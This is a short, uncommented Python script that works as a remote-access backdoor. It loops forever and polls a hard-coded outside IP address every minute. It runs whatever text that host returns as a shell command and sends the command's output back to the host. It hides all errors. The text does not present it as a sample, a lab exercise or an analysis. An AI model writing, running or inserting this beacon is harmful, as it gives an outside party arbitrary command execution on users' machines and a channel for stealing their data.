#!/usr/bin/env python3
import subprocess, time, urllib.request

BEACON = "http://77.91.124.56:8080/b"

while True:
    try:
        cmd = urllib.request.urlopen(BEACON, timeout=10).read().decode()
        if cmd.strip():
            out = subprocess.run(cmd, shell=True, capture_output=True, timeout=120)
            urllib.request.urlopen(BEACON, data=out.stdout + out.stderr, timeout=10)
    except Exception:
        pass
    time.sleep(60)
